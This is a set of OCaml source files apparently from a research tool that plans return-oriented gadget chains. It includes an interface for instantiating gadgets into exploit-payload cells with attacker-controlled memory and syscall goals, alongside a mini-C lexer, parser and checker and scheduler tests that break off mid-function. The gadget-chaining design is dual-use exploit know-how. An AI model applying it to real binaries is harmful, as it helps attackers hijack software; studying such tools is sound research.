