lib/core/extract.ml: Bytes Decode Fun Gadget Gp_symx Gp_util Gp_x86 Insn Int64 List
