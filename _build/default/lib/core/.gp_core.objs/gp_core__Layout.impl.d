lib/core/layout.ml: Gp_emu Gp_smt Int64 List
