lib/core/subsume.mli: Gadget
