lib/core/extract.mli: Gadget Gp_util Gp_x86
