lib/core/api.ml: Extract Gadget Goal Gp_util Hashtbl List Payload Planner Pool Subsume Unix
