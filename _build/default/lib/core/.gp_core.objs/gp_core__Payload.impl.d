lib/core/payload.ml: Array Buffer Gadget Goal Gp_emu Gp_smt Gp_symx Gp_util Gp_x86 Hashtbl Int64 Layout List Plan Printf String Term
