lib/core/plan.mli: Digest Gadget Goal Gp_smt Gp_x86
