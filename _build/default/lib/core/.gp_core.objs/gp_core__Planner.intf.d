lib/core/planner.mli: Gadget Goal Hashtbl Plan Pool
