lib/core/payload.mli: Goal Gp_smt Gp_util Plan
