lib/core/plan.ml: Digest Formula Gadget Goal Gp_smt Gp_symx Gp_x86 Hashtbl Int64 Layout List Marshal Printf Reg Solver String Term
