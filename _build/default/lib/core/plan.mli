(** Plan representation for partial-order planning (paper §IV-D).

    A plan is the 5-tuple (α, β, γ, δ, ε): steps, orderings, causal
    links, open pre-conditions, and (transient) threats.  Steps are
    INSTANTIATED gadgets: at instantiation time the gadget's
    pre-conditions and the required effect are solved together, yielding
    concrete stack-slot bindings (payload cells) and concrete register
    demands on earlier steps.  This concretization keeps the POP
    machinery classical while the symbolic heavy lifting happens in the
    solver at instantiation. *)

(** A condition a step needs at its entry. *)
type cond =
  | Creg of Gp_x86.Reg.t * int64   (** register equals the value *)
  | Cmem of int64 * int64          (** memory cell holds the value *)

val cond_to_string : cond -> string

type step_id = int

(** An instantiated gadget in a plan. *)
type step = {
  sid : step_id;
  gadget : Gadget.t;
  bindings : (int * int64) list;
      (** slot offset (from the step's entry rsp) -> payload value *)
  abs_bindings : (int64 * int64) list;
      (** absolute payload cell -> value (pinned-pointer reads) *)
  mem_cells : (string * int64) list;
      (** memory-read variable -> absolute payload cell it resolved to *)
  effects : (Gp_x86.Reg.t * int64) list;
      (** register effects fully determined by the instantiation *)
  mem_effects : (int64 * int64) list;   (** concrete pointer writes *)
  write_addrs : int64 list;             (** all determined write targets *)
  demands : cond list;                  (** pre-conditions on entry state *)
  is_goal : bool;
}

(** α steps, β orderings, γ causal links, δ open pre-conditions. *)
type t = {
  steps : step list;
  orderings : (step_id * step_id) list;  (** (a, b): a executes before b *)
  links : (step_id * cond * step_id) list;
      (** (producer, condition, consumer) *)
  open_conds : (step_id * cond) list;    (** (consumer, needed condition) *)
  next_sid : int;
}

(** {1 Variable classification} *)

val reg_of_entry_var : string -> Gp_x86.Reg.t option
(** ["rdi_0"] -> [Some RDI]. *)

val is_slot_var : string -> bool
val find_mem_read : Gadget.t -> string -> (string * Gp_smt.Term.t * bool) option
val is_mem_var : Gadget.t -> string -> bool
val is_reliable_mem_var : Gadget.t -> string -> bool

(** {1 Instantiation} *)

val solve_instantiation :
  ?salt:int ->
  Gadget.t ->
  Gp_smt.Formula.t list ->
  ((int * int64) list
  * (int64 * int64) list
  * (string * int64) list
  * cond list
  * Gp_smt.Solver.model)
  option
(** Solve [require] together with the gadget's own pre-conditions.
    Returns (slot bindings, absolute cell bindings, resolved memory
    cells, register demands, full model) or [None].  Memory values read
    through controlled pointers are handled per the paper: the pointer is
    pinned into the payload region and the value becomes a payload cell;
    a constrained read whose cell is NOT attacker-controlled poisons the
    instantiation. *)

val target_controllable : Gadget.t -> (string * 'a) list -> bool
(** Will the outgoing transfer be solvable to an arbitrary next address
    at payload-build time? *)

val instantiate_for : Gadget.t -> cond -> sid:step_id -> step option
(** Instantiate the gadget to ACHIEVE the condition (rejecting dead-end
    syscall gadgets, pass-through registers, uncontrollable targets, and
    instantiations that fail to deliver). *)

val instantiate_goal : Gadget.t -> Goal.concrete -> sid:step_id -> step option
(** Instantiate a syscall gadget as the plan's GOAL step: its syscall-
    time register state must equal the goal's. *)

(** {1 Plan machinery} *)

val find_step : t -> step_id -> step
val reaches : t -> step_id -> step_id -> bool

val add_ordering : t -> step_id -> step_id -> t option
(** [None] when the ordering would create a cycle. *)

val clobbers : step -> cond -> bool
(** Does the step threaten a causal link carrying the condition?
    (Writing the same value is harmless.) *)

val protect_link : t -> step_id -> cond -> step_id -> t option
(** Resolve all threats to the link (producer, cond, consumer) from
    existing steps, by demotion then promotion; [None] if unresolvable. *)

val protect_from : t -> step -> t option
(** Resolve threats a NEW step poses to existing links. *)

val signature : t -> Digest.t
(** Canonical hash for visited-set deduplication. *)
