(** AST for mini-C, the corpus language.

    A deliberately small C subset mirroring Tigress's role as a
    source-level tool: 64-bit ints, pointers, arrays, string literals (as
    byte blobs), functions, the usual statements.  Shift amounts must be
    constant (the x86 subset has no variable-count shifts). *)

type unop =
  | Neg          (** [-e] *)
  | BitNot       (** [~e] *)
  | LogNot       (** [!e] *)

type binop =
  | Add | Sub | Mul
  | BitAnd | BitOr | BitXor
  | Shl | Shr
  | Eq | Ne | Lt | Le | Gt | Ge
  | LogAnd | LogOr

type expr =
  | Int of int64
  | Str of string               (** address of a NUL-terminated blob *)
  | Var of string
  | Unary of unop * expr
  | Binary of binop * expr * expr
  | Call of string * expr list
  | Index of expr * expr        (** [e1\[e2\]], element size 8 *)
  | Deref of expr               (** [*e] *)
  | AddrOf of expr              (** [&lvalue] *)

type stmt =
  | Decl of string * expr option        (** [int x;] / [int x = e;] *)
  | DeclArray of string * int           (** [int a\[N\];] *)
  | Assign of expr * expr               (** [lvalue = e;] *)
  | If of expr * stmt list * stmt list
  | While of expr * stmt list
  | For of stmt option * expr option * stmt option * stmt list
  | Return of expr option
  | Break
  | Continue
  | ExprStmt of expr
  | Block of stmt list

type func = {
  fname : string;
  params : string list;
  body : stmt list;
}

type ginit =
  | Gint of int64
  | Garray of int * int64 list   (** element count, leading initializers *)
  | Gstring of string

type global = { gname : string; ginit : ginit }

type program = { globals : global list; funcs : func list }

val builtins : (string * int) list
(** Built-in functions (name, arity) the code generator lowers to inline
    syscalls: [print] and [exit] — standing in for libc. *)

val find_func : program -> string -> func option
