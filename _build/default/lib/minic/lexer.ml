(* Hand-written lexer for mini-C. *)

type token =
  | INT of int64
  | STRING of string
  | IDENT of string
  | KW of string          (* int, if, else, while, for, return, break, continue *)
  | PUNCT of string       (* operators and delimiters *)
  | EOF

type error = { line : int; msg : string }

exception Lex_error of error

let keywords = [ "int"; "if"; "else"; "while"; "for"; "return"; "break"; "continue" ]

let is_ident_start c = (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || c = '_'
let is_ident_char c = is_ident_start c || (c >= '0' && c <= '9')
let is_digit c = c >= '0' && c <= '9'
let is_hex c = is_digit c || (c >= 'a' && c <= 'f') || (c >= 'A' && c <= 'F')

(* Multi-char punctuation, longest first. *)
let puncts =
  [ "<<"; ">>"; "<="; ">="; "=="; "!="; "&&"; "||";
    "+"; "-"; "*"; "/"; "%"; "&"; "|"; "^"; "~"; "!"; "<"; ">"; "=";
    "("; ")"; "{"; "}"; "["; "]"; ";"; "," ]

let tokenize src =
  let n = String.length src in
  let line = ref 1 in
  let fail msg = raise (Lex_error { line = !line; msg }) in
  let tokens = ref [] in
  let push t = tokens := (t, !line) :: !tokens in
  let i = ref 0 in
  while !i < n do
    let c = src.[!i] in
    if c = '\n' then begin incr line; incr i end
    else if c = ' ' || c = '\t' || c = '\r' then incr i
    else if c = '/' && !i + 1 < n && src.[!i + 1] = '/' then begin
      while !i < n && src.[!i] <> '\n' do incr i done
    end
    else if c = '/' && !i + 1 < n && src.[!i + 1] = '*' then begin
      i := !i + 2;
      let closed = ref false in
      while !i + 1 < n && not !closed do
        if src.[!i] = '\n' then incr line;
        if src.[!i] = '*' && src.[!i + 1] = '/' then begin
          closed := true;
          i := !i + 2
        end
        else incr i
      done;
      if not !closed then fail "unterminated comment"
    end
    else if is_ident_start c then begin
      let start = !i in
      while !i < n && is_ident_char src.[!i] do incr i done;
      let word = String.sub src start (!i - start) in
      if List.mem word keywords then push (KW word) else push (IDENT word)
    end
    else if is_digit c then begin
      let start = !i in
      if c = '0' && !i + 1 < n && (src.[!i + 1] = 'x' || src.[!i + 1] = 'X') then begin
        i := !i + 2;
        while !i < n && is_hex src.[!i] do incr i done
      end
      else while !i < n && is_digit src.[!i] do incr i done;
      let text = String.sub src start (!i - start) in
      match Int64.of_string_opt text with
      | Some v -> push (INT v)
      | None -> fail (Printf.sprintf "bad integer literal %s" text)
    end
    else if c = '"' then begin
      incr i;
      let buf = Buffer.create 16 in
      let closed = ref false in
      while !i < n && not !closed do
        let c = src.[!i] in
        if c = '"' then begin closed := true; incr i end
        else if c = '\\' && !i + 1 < n then begin
          (match src.[!i + 1] with
           | 'n' -> Buffer.add_char buf '\n'
           | 't' -> Buffer.add_char buf '\t'
           | '0' -> Buffer.add_char buf '\000'
           | '\\' -> Buffer.add_char buf '\\'
           | '"' -> Buffer.add_char buf '"'
           | e -> fail (Printf.sprintf "bad escape \\%c" e));
          i := !i + 2
        end
        else begin
          if c = '\n' then fail "newline in string literal";
          Buffer.add_char buf c;
          incr i
        end
      done;
      if not !closed then fail "unterminated string literal";
      push (STRING (Buffer.contents buf))
    end
    else begin
      let matched =
        List.find_opt
          (fun p ->
            let l = String.length p in
            !i + l <= n && String.sub src !i l = p)
          puncts
      in
      match matched with
      | Some p ->
        push (PUNCT p);
        i := !i + String.length p
      | None -> fail (Printf.sprintf "unexpected character %c" c)
    end
  done;
  push EOF;
  List.rev !tokens
