(** Hand-written lexer for mini-C. *)

type token =
  | INT of int64
  | STRING of string
  | IDENT of string
  | KW of string          (** int, if, else, while, for, return, break, continue *)
  | PUNCT of string       (** operators and delimiters *)
  | EOF

type error = { line : int; msg : string }

exception Lex_error of error

val tokenize : string -> (token * int) list
(** Tokens paired with their source line, [EOF] last.  Handles decimal
    and hex integers, string literals with escapes, and both comment
    styles. *)
