(** Scope and arity checking for mini-C programs.

    Types are erased (everything is a 64-bit value), so "checking" means:
    variables declared before use, no duplicate declarations per scope,
    call arity (builtins included), break/continue inside loops, constant
    shift amounts, and a [main] function exists. *)

type error = string

exception Check_error of error

val check_program : Ast.program -> unit
(** Raises {!Check_error} on the first violation. *)

val parse_and_check : string -> Ast.program
(** Parse then check. *)
