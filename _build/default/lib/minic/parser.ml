(* Recursive-descent parser for mini-C. *)

type error = { line : int; msg : string }

exception Parse_error of error

type state = { toks : (Lexer.token * int) array; mutable pos : int }

let peek st = fst st.toks.(st.pos)
let line st = snd st.toks.(st.pos)
let advance st = st.pos <- st.pos + 1

let fail st msg = raise (Parse_error { line = line st; msg })

let token_desc = function
  | Lexer.INT v -> Printf.sprintf "integer %Ld" v
  | Lexer.STRING _ -> "string literal"
  | Lexer.IDENT s -> Printf.sprintf "identifier %s" s
  | Lexer.KW s -> Printf.sprintf "keyword %s" s
  | Lexer.PUNCT s -> Printf.sprintf "'%s'" s
  | Lexer.EOF -> "end of input"

let expect_punct st p =
  match peek st with
  | Lexer.PUNCT q when q = p -> advance st
  | t -> fail st (Printf.sprintf "expected '%s', found %s" p (token_desc t))

let expect_kw st k =
  match peek st with
  | Lexer.KW q when q = k -> advance st
  | t -> fail st (Printf.sprintf "expected '%s', found %s" k (token_desc t))

let accept_punct st p =
  match peek st with
  | Lexer.PUNCT q when q = p ->
    advance st;
    true
  | _ -> false

let expect_ident st =
  match peek st with
  | Lexer.IDENT s ->
    advance st;
    s
  | t -> fail st (Printf.sprintf "expected identifier, found %s" (token_desc t))

let expect_int st =
  match peek st with
  | Lexer.INT v ->
    advance st;
    v
  | Lexer.PUNCT "-" -> (
    advance st;
    match peek st with
    | Lexer.INT v ->
      advance st;
      Int64.neg v
    | t -> fail st (Printf.sprintf "expected integer, found %s" (token_desc t)))
  | t -> fail st (Printf.sprintf "expected integer, found %s" (token_desc t))

(* ----- expressions, precedence climbing ----- *)

let binop_of_punct = function
  | "+" -> Some Ast.Add | "-" -> Some Ast.Sub | "*" -> Some Ast.Mul
  | "&" -> Some Ast.BitAnd | "|" -> Some Ast.BitOr | "^" -> Some Ast.BitXor
  | "<<" -> Some Ast.Shl | ">>" -> Some Ast.Shr
  | "==" -> Some Ast.Eq | "!=" -> Some Ast.Ne
  | "<" -> Some Ast.Lt | "<=" -> Some Ast.Le
  | ">" -> Some Ast.Gt | ">=" -> Some Ast.Ge
  | "&&" -> Some Ast.LogAnd | "||" -> Some Ast.LogOr
  | _ -> None

(* Precedence levels, loosest first. *)
let levels =
  [ [ "||" ]; [ "&&" ]; [ "|" ]; [ "^" ]; [ "&" ];
    [ "=="; "!=" ]; [ "<"; "<="; ">"; ">=" ]; [ "<<"; ">>" ];
    [ "+"; "-" ]; [ "*" ] ]

let rec parse_expr st = parse_level st levels

and parse_level st = function
  | [] -> parse_unary st
  | ops :: rest ->
    let lhs = ref (parse_level st rest) in
    let continue_ = ref true in
    while !continue_ do
      match peek st with
      | Lexer.PUNCT p when List.mem p ops -> (
        advance st;
        let rhs = parse_level st rest in
        match binop_of_punct p with
        | Some op -> lhs := Ast.Binary (op, !lhs, rhs)
        | None -> fail st (Printf.sprintf "unsupported operator '%s'" p))
      | Lexer.PUNCT ("/" | "%") ->
        fail st "division is not supported in mini-C (no idiv in the ISA subset)"
      | _ -> continue_ := false
    done;
    !lhs

and parse_unary st =
  match peek st with
  | Lexer.PUNCT "-" ->
    advance st;
    Ast.Unary (Ast.Neg, parse_unary st)
  | Lexer.PUNCT "~" ->
    advance st;
    Ast.Unary (Ast.BitNot, parse_unary st)
  | Lexer.PUNCT "!" ->
    advance st;
    Ast.Unary (Ast.LogNot, parse_unary st)
  | Lexer.PUNCT "*" ->
    advance st;
    Ast.Deref (parse_unary st)
  | Lexer.PUNCT "&" ->
    advance st;
    Ast.AddrOf (parse_unary st)
  | _ -> parse_postfix st

and parse_postfix st =
  let e = ref (parse_primary st) in
  let continue_ = ref true in
  while !continue_ do
    if accept_punct st "[" then begin
      let idx = parse_expr st in
      expect_punct st "]";
      e := Ast.Index (!e, idx)
    end
    else continue_ := false
  done;
  !e

and parse_primary st =
  match peek st with
  | Lexer.INT v ->
    advance st;
    Ast.Int v
  | Lexer.STRING s ->
    advance st;
    Ast.Str s
  | Lexer.IDENT name ->
    advance st;
    if accept_punct st "(" then begin
      let args = ref [] in
      if not (accept_punct st ")") then begin
        args := [ parse_expr st ];
        while accept_punct st "," do
          args := parse_expr st :: !args
        done;
        expect_punct st ")"
      end;
      Ast.Call (name, List.rev !args)
    end
    else Ast.Var name
  | Lexer.PUNCT "(" ->
    advance st;
    let e = parse_expr st in
    expect_punct st ")";
    e
  | t -> fail st (Printf.sprintf "expected expression, found %s" (token_desc t))

(* ----- statements ----- *)

let rec parse_stmt st : Ast.stmt =
  match peek st with
  | Lexer.KW "int" -> (
    advance st;
    (* pointer declarations are type-erased: int *p == int p *)
    let _ = accept_punct st "*" in
    let name = expect_ident st in
    if accept_punct st "[" then begin
      let size = Int64.to_int (expect_int st) in
      expect_punct st "]";
      expect_punct st ";";
      Ast.DeclArray (name, size)
    end
    else if accept_punct st "=" then begin
      let e = parse_expr st in
      expect_punct st ";";
      Ast.Decl (name, Some e)
    end
    else begin
      expect_punct st ";";
      Ast.Decl (name, None)
    end)
  | Lexer.KW "if" ->
    advance st;
    expect_punct st "(";
    let cond = parse_expr st in
    expect_punct st ")";
    let then_ = parse_stmt_as_block st in
    let else_ =
      match peek st with
      | Lexer.KW "else" ->
        advance st;
        parse_stmt_as_block st
      | _ -> []
    in
    Ast.If (cond, then_, else_)
  | Lexer.KW "while" ->
    advance st;
    expect_punct st "(";
    let cond = parse_expr st in
    expect_punct st ")";
    Ast.While (cond, parse_stmt_as_block st)
  | Lexer.KW "for" ->
    advance st;
    expect_punct st "(";
    let init = if accept_punct st ";" then None else begin
      let s = parse_simple st in
      expect_punct st ";";
      Some s
    end in
    let cond = if accept_punct st ";" then None else begin
      let e = parse_expr st in
      expect_punct st ";";
      Some e
    end in
    let step =
      match peek st with
      | Lexer.PUNCT ")" -> None
      | _ -> Some (parse_simple st)
    in
    expect_punct st ")";
    Ast.For (init, cond, step, parse_stmt_as_block st)
  | Lexer.KW "return" ->
    advance st;
    if accept_punct st ";" then Ast.Return None
    else begin
      let e = parse_expr st in
      expect_punct st ";";
      Ast.Return (Some e)
    end
  | Lexer.KW "break" ->
    advance st;
    expect_punct st ";";
    Ast.Break
  | Lexer.KW "continue" ->
    advance st;
    expect_punct st ";";
    Ast.Continue
  | Lexer.PUNCT "{" -> Ast.Block (parse_block st)
  | _ ->
    let s = parse_simple st in
    expect_punct st ";";
    s

(* assignment or expression statement (no trailing ';') *)
and parse_simple st =
  let e = parse_expr st in
  if accept_punct st "=" then begin
    let rhs = parse_expr st in
    (match e with
     | Ast.Var _ | Ast.Index _ | Ast.Deref _ -> ()
     | _ -> fail st "left side of assignment is not an lvalue");
    Ast.Assign (e, rhs)
  end
  else Ast.ExprStmt e

and parse_block st =
  expect_punct st "{";
  let stmts = ref [] in
  while not (accept_punct st "}") do
    stmts := parse_stmt st :: !stmts
  done;
  List.rev !stmts

and parse_stmt_as_block st =
  match peek st with
  | Lexer.PUNCT "{" -> parse_block st
  | _ -> [ parse_stmt st ]

(* ----- top level ----- *)

let parse_global st name =
  if accept_punct st "[" then begin
    let size = Int64.to_int (expect_int st) in
    expect_punct st "]";
    let init =
      if accept_punct st "=" then begin
        expect_punct st "{";
        let vals = ref [] in
        if not (accept_punct st "}") then begin
          vals := [ expect_int st ];
          while accept_punct st "," do
            vals := expect_int st :: !vals
          done;
          expect_punct st "}"
        end;
        List.rev !vals
      end
      else []
    in
    expect_punct st ";";
    { Ast.gname = name; ginit = Ast.Garray (size, init) }
  end
  else if accept_punct st "=" then begin
    match peek st with
    | Lexer.STRING s ->
      advance st;
      expect_punct st ";";
      { Ast.gname = name; ginit = Ast.Gstring s }
    | _ ->
      let v = expect_int st in
      expect_punct st ";";
      { Ast.gname = name; ginit = Ast.Gint v }
  end
  else begin
    expect_punct st ";";
    { Ast.gname = name; ginit = Ast.Gint 0L }
  end

let parse_program src =
  let toks = Array.of_list (Lexer.tokenize src) in
  let st = { toks; pos = 0 } in
  let globals = ref [] in
  let funcs = ref [] in
  while peek st <> Lexer.EOF do
    expect_kw st "int";
    let _ = accept_punct st "*" in
    let name = expect_ident st in
    if accept_punct st "(" then begin
      let params = ref [] in
      if not (accept_punct st ")") then begin
        let param () =
          expect_kw st "int";
          let _ = accept_punct st "*" in
          expect_ident st
        in
        params := [ param () ];
        while accept_punct st "," do
          params := param () :: !params
        done;
        expect_punct st ")"
      end;
      let body = parse_block st in
      funcs := { Ast.fname = name; params = List.rev !params; body } :: !funcs
    end
    else globals := parse_global st name :: !globals
  done;
  { Ast.globals = List.rev !globals; funcs = List.rev !funcs }

(* Parse, raising [Failure] with a printable message on error. *)
let parse src =
  try parse_program src with
  | Parse_error e -> failwith (Printf.sprintf "parse error at line %d: %s" e.line e.msg)
  | Lexer.Lex_error e -> failwith (Printf.sprintf "lex error at line %d: %s" e.line e.msg)
