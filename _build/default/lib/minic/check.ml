(* Scope and arity checking for mini-C programs.

   Types are erased (everything is a 64-bit value), so "checking" means:
   every variable is declared before use, no duplicate declarations in a
   scope, calls match arity (builtins included), break/continue appear
   inside loops, and every function referenced exists. *)

type error = string

exception Check_error of error

let fail fmt = Printf.ksprintf (fun m -> raise (Check_error m)) fmt

module Sset = Set.Make (String)

type env = {
  globals : Sset.t;
  funcs : (string * int) list;    (* name, arity *)
  mutable scopes : Sset.t list;   (* innermost first *)
  mutable loop_depth : int;
}

let declared env name =
  List.exists (fun s -> Sset.mem name s) env.scopes || Sset.mem name env.globals

let declare env name =
  match env.scopes with
  | scope :: rest ->
    if Sset.mem name scope then fail "duplicate declaration of %s" name;
    env.scopes <- Sset.add name scope :: rest
  | [] -> assert false

let rec check_expr env (e : Ast.expr) =
  match e with
  | Ast.Int _ | Ast.Str _ -> ()
  | Ast.Var v -> if not (declared env v) then fail "undeclared variable %s" v
  | Ast.Unary (_, a) -> check_expr env a
  | Ast.Binary (op, a, b) ->
    check_expr env a;
    check_expr env b;
    (match op, b with
     | (Ast.Shl | Ast.Shr), Ast.Int n when n >= 0L && n < 64L -> ()
     | (Ast.Shl | Ast.Shr), _ -> fail "shift amount must be a constant in [0,64)"
     | _ -> ())
  | Ast.Call (f, args) -> (
    List.iter (check_expr env) args;
    match List.assoc_opt f env.funcs with
    | Some arity ->
      if List.length args <> arity then
        fail "%s expects %d argument(s), got %d" f arity (List.length args)
    | None -> fail "call to undefined function %s" f)
  | Ast.Index (a, i) ->
    check_expr env a;
    check_expr env i
  | Ast.Deref a -> check_expr env a
  | Ast.AddrOf a -> (
    check_expr env a;
    match a with
    | Ast.Var _ | Ast.Index _ | Ast.Deref _ -> ()
    | _ -> fail "&-operand must be an lvalue")

let rec check_stmt env (s : Ast.stmt) =
  match s with
  | Ast.Decl (name, init) ->
    Option.iter (check_expr env) init;
    declare env name
  | Ast.DeclArray (name, size) ->
    if size <= 0 then fail "array %s has non-positive size" name;
    declare env name
  | Ast.Assign (lv, rhs) ->
    check_expr env lv;
    check_expr env rhs
  | Ast.If (c, t, e) ->
    check_expr env c;
    check_stmts env t;
    check_stmts env e
  | Ast.While (c, body) ->
    check_expr env c;
    env.loop_depth <- env.loop_depth + 1;
    check_stmts env body;
    env.loop_depth <- env.loop_depth - 1
  | Ast.For (init, cond, step, body) ->
    env.scopes <- Sset.empty :: env.scopes;
    Option.iter (check_stmt env) init;
    Option.iter (check_expr env) cond;
    env.loop_depth <- env.loop_depth + 1;
    check_stmts env body;
    Option.iter (check_stmt env) step;
    env.loop_depth <- env.loop_depth - 1;
    env.scopes <- List.tl env.scopes
  | Ast.Return e -> Option.iter (check_expr env) e
  | Ast.Break | Ast.Continue ->
    if env.loop_depth = 0 then fail "break/continue outside of a loop"
  | Ast.ExprStmt e -> check_expr env e
  | Ast.Block stmts -> check_stmts env stmts

and check_stmts env stmts =
  env.scopes <- Sset.empty :: env.scopes;
  List.iter (check_stmt env) stmts;
  env.scopes <- List.tl env.scopes

let check_program (p : Ast.program) =
  let globals =
    List.fold_left (fun s g -> Sset.add g.Ast.gname s) Sset.empty p.globals
  in
  let funcs =
    Ast.builtins
    @ List.map (fun f -> (f.Ast.fname, List.length f.Ast.params)) p.funcs
  in
  (match Ast.find_func p "main" with
   | Some _ -> ()
   | None -> fail "program has no main function");
  List.iter
    (fun (f : Ast.func) ->
      let env = { globals; funcs; scopes = [ Sset.of_list f.params ]; loop_depth = 0 } in
      check_stmts env f.body)
    p.funcs

(* Convenience: parse + check. *)
let parse_and_check src =
  let p = Parser.parse src in
  check_program p;
  p
