lib/minic/ast.mli:
