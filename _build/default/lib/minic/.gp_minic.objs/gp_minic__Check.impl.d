lib/minic/check.ml: Ast List Option Parser Printf Set String
