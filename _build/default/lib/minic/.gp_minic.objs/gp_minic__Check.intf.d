lib/minic/check.mli: Ast
