lib/minic/lexer.mli:
