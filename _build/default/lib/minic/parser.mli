(** Recursive-descent parser for mini-C (precedence-climbing
    expressions, C-like precedence levels). *)

type error = { line : int; msg : string }

exception Parse_error of error

val parse_program : string -> Ast.program
(** Raises {!Parse_error} or {!Lexer.Lex_error} with positions. *)

val parse : string -> Ast.program
(** Like {!parse_program} but converts errors into [Failure] with a
    printable message. *)
