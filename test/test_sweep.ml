(* Pipelined corpus scheduler tests (DESIGN.md §14).  Four angles:

   - scheduler core properties: random DAGs (diamonds, disconnected
     components, dynamic growth) always complete, never run a node
     before its predecessors, and never deadlock at 1-8 workers; the
     work-stealing deque obeys owner-LIFO / thief-FIFO semantics and
     loses nothing under concurrent pop/steal;
   - shared-state stress: the [Incr] summary table and the solver-memo
     [Cache] hammered from 4 domains over overlapping content keys —
     first-write-wins, no lost updates, counters that add up;
   - the acceptance differential: the cell x stage DAG at jobs 1, 2,
     and JOBS produces byte-identical encoded payloads to the
     sequential cell loop over the full quick survey corpus, including
     under 10% keyed fault injection (Faultsim's schedules are keyed,
     not streamed, so the injected fault set is interleaving-proof);
   - crash/resume composed with the scheduler: kill a scheduled sweep
     at the wal-append and mid-stage crash points, resume, and require
     byte-equality with both an uninterrupted scheduled sweep and the
     sequential reference.

   JOBS sweeps the worker count (make check-sweep runs 1 and 4). *)

module E = Gp_harness.Experiments
module S = Gp_harness.Sched
module R = Gp_harness.Runner

let jobs_under_test =
  match Sys.getenv_opt "JOBS" with
  | Some s -> (try max 1 (int_of_string s) with _ -> 4)
  | None -> 4

let tmp_dir =
  let n = ref 0 in
  fun () ->
    incr n;
    let d =
      Filename.concat (Filename.get_temp_dir_name ())
        (Printf.sprintf "gp-sweep-test-%d-%d" (Unix.getpid ()) !n)
    in
    E.rm_rf d;
    d

(* ----- deque semantics ----- *)

let test_deque_owner_lifo_thief_fifo () =
  let d = S.Deque.create () in
  List.iter (S.Deque.push d) [ 1; 2; 3; 4; 5 ];
  Alcotest.(check int) "length" 5 (S.Deque.length d);
  Alcotest.(check (option int)) "owner pops newest" (Some 5) (S.Deque.pop d);
  Alcotest.(check (option int)) "thief steals oldest" (Some 1)
    (S.Deque.steal d);
  Alcotest.(check (option int)) "owner again" (Some 4) (S.Deque.pop d);
  Alcotest.(check (option int)) "thief again" (Some 2) (S.Deque.steal d);
  Alcotest.(check (option int)) "last item either end" (Some 3)
    (S.Deque.pop d);
  Alcotest.(check (option int)) "empty pop" None (S.Deque.pop d);
  Alcotest.(check (option int)) "empty steal" None (S.Deque.steal d)

(* Owner pushes and pops while a thief steals: every pushed item comes
   out exactly once, whichever end it left by. *)
let test_deque_concurrent_conservation () =
  let d = S.Deque.create () in
  let n = 2000 in
  let stolen = ref [] in
  let thief =
    Domain.spawn (fun () ->
        let rec loop misses =
          if misses < 10_000 then
            match S.Deque.steal d with
            | Some x ->
              stolen := x :: !stolen;
              loop 0
            | None ->
              Domain.cpu_relax ();
              loop (misses + 1)
        in
        loop 0)
  in
  let popped = ref [] in
  for i = 1 to n do
    S.Deque.push d i;
    if i mod 3 = 0 then
      match S.Deque.pop d with
      | Some x -> popped := x :: !popped
      | None -> ()
  done;
  let rec drain () =
    match S.Deque.pop d with
    | Some x ->
      popped := x :: !popped;
      drain ()
    | None -> ()
  in
  drain ();
  Domain.join thief;
  (* the thief may still have missed a late push; drain once more *)
  drain ();
  let all = List.sort compare (!popped @ !stolen) in
  Alcotest.(check int) "nothing lost, nothing duplicated" n
    (List.length all);
  Alcotest.(check bool) "exactly the pushed set" true
    (all = List.init n (fun i -> i + 1))

(* ----- DAG unit tests ----- *)

let record_order () =
  let m = Mutex.create () in
  let order = ref [] in
  let record i = Mutex.protect m (fun () -> order := i :: !order) in
  (record, fun () -> List.rev !order)

let test_dag_diamond () =
  let dag = S.Dag.create () in
  let record, seen = record_order () in
  let a = S.Dag.node dag ~label:"a" (fun () -> record "a") in
  let b = S.Dag.node dag ~after:[ a ] ~label:"b" (fun () -> record "b") in
  let c = S.Dag.node dag ~after:[ a ] ~label:"c" (fun () -> record "c") in
  let _d =
    S.Dag.node dag ~after:[ b; c ] ~label:"d" (fun () -> record "d")
  in
  S.Dag.run ~jobs:jobs_under_test dag;
  let order = seen () in
  Alcotest.(check int) "all ran" 4 (List.length order);
  Alcotest.(check string) "source first" "a" (List.hd order);
  Alcotest.(check string) "sink last" "d" (List.nth order 3)

let test_dag_dynamic_growth () =
  (* a node's fn grows the graph while running: the staged-cell pattern *)
  let dag = S.Dag.create () in
  let record, seen = record_order () in
  let _a =
    S.Dag.node dag ~label:"a" (fun () ->
        record "a";
        let b =
          S.Dag.node dag ~label:"b" (fun () ->
              record "b";
              ignore (S.Dag.node dag ~label:"d" (fun () -> record "d")))
        in
        ignore (S.Dag.node dag ~after:[ b ] ~label:"c" (fun () -> record "c")))
  in
  S.Dag.run ~jobs:jobs_under_test dag;
  let order = seen () in
  Alcotest.(check int) "all four ran" 4 (List.length order);
  let pos x =
    let rec go i = function
      | [] -> -1
      | y :: _ when x = y -> i
      | _ :: tl -> go (i + 1) tl
    in
    go 0 order
  in
  Alcotest.(check bool) "a before b" true (pos "a" < pos "b");
  Alcotest.(check bool) "b before c (declared edge)" true (pos "b" < pos "c");
  Alcotest.(check bool) "b before d (creation order)" true
    (pos "b" < pos "d")

let test_dag_failure_aborts_and_joins () =
  let dag = S.Dag.create () in
  let a = S.Dag.node dag (fun () -> failwith "boom") in
  let ran_after = ref false in
  let _b = S.Dag.node dag ~after:[ a ] (fun () -> ran_after := true) in
  (match S.Dag.run ~jobs:jobs_under_test dag with
  | () -> Alcotest.fail "failed node must re-raise"
  | exception Failure msg -> Alcotest.(check string) "the node's exn" "boom" msg);
  Alcotest.(check bool) "successor never ran" false !ran_after

(* ----- DAG qcheck properties ----- *)

(* Random graph shape: node i depends on a random subset of earlier
   nodes (possibly none — disconnected components arise naturally),
   run at a random worker count.  The raw generator output is mapped
   into valid earlier-index edges, so every generated graph is a DAG
   by construction, like the real API. *)
let dag_shape_gen =
  QCheck2.Gen.(
    pair (int_range 1 8)
      (list_size (int_range 0 30) (list_size (int_range 0 3) (int_bound 1000))))

let deps_of_shape shape =
  List.mapi
    (fun i raw ->
      if i = 0 then []
      else List.sort_uniq compare (List.map (fun d -> d mod i) raw))
    shape

let run_shape ~jobs shape =
  let deps = deps_of_shape shape in
  let n = List.length deps in
  let dag = S.Dag.create () in
  let m = Mutex.create () in
  let order = ref [] in
  let ids = Array.make n (-1) in
  List.iteri
    (fun i ds ->
      ids.(i) <-
        S.Dag.node dag
          ~after:(List.map (fun d -> ids.(d)) ds)
          ~label:(string_of_int i)
          (fun () -> Mutex.protect m (fun () -> order := i :: !order)))
